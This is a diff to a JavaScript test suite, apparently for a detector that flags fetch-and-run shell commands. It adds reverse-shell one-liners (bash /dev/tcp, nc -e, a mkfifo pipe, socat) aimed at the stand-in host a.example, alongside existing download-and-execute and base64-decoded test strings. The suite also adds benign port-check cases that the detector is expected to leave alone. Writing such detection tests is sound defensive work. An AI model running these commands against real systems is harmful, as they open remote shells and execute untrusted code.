@@ -35,10 +35,14 @@ describe('fetched and run', () => {
     ['PowerShell in brackets', 'iex (irm https://a.example/i.ps1)'],
     ['a Windows program', 'Invoke-WebRequest https://a.example/s.exe -OutFile s.exe\nStart-Process s.exe'],
     ['Python', `python3 -c "import urllib.request as u; exec(u.urlopen('https://a.example/p').read())"`],
+    ['a shell led by another machine', 'bash -i >& /dev/tcp/a.example/4444 0>&1'],
+    ['a shell handed to a connection', 'nc -e /bin/sh a.example 4444'],
+    ['a shell between two pipes', 'mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc a.example 4444 > /tmp/p'],
     ['a prompt before it', '$ curl -s https://a.example/i.sh | sh\nDone.'],
   ])('%s', (_, text) => expect(gravest(text)).toEqual(expect.arrayContaining(['fetch-and-run a.example'])));
 
   it.each([
+    ['a shell handed to a connection by an address', 'socat tcp:a.example:4444 exec:bash,pty'],
     ['an encoded command', 'powershell -NoP -enc SQBFAFgA'],
     ['a decoded command', 'echo Y3VybCB4 | base64 -d | bash'],
     ['a decoded here-string', 'bash <<< "$(base64 --decode <<< Y3VybCB4)"'],
@@ -64,6 +68,13 @@ describe('fetched and run', () => {
     ['a comment', '# curl https://a.example/i.sh | sh\nls'],
     ['output of a terminal', '$ ls\ncurl https://a.example/i.sh | sh'],
   ])('leaves alone: %s', (_, text) => expect(gravest(text)).toEqual([]));
+
+  it.each([
+    ['a port that is looked at', 'nc -zv a.example 443'],
+    ['a port that is waited for', 'timeout 1 bash -c "</dev/tcp/a.example/5432"'],
+    ['what a script says, sent on', 'bash scripts/report.sh | nc a.example 9000'],
+    ['a line of text, sent on', 'echo stats | nc a.example 8125'],
+  ])('is another deed: %s', (_, text) => expect(gravest(text).join()).not.toContain('fetch-and-run'));
 });
 
 describe('sent', () => {
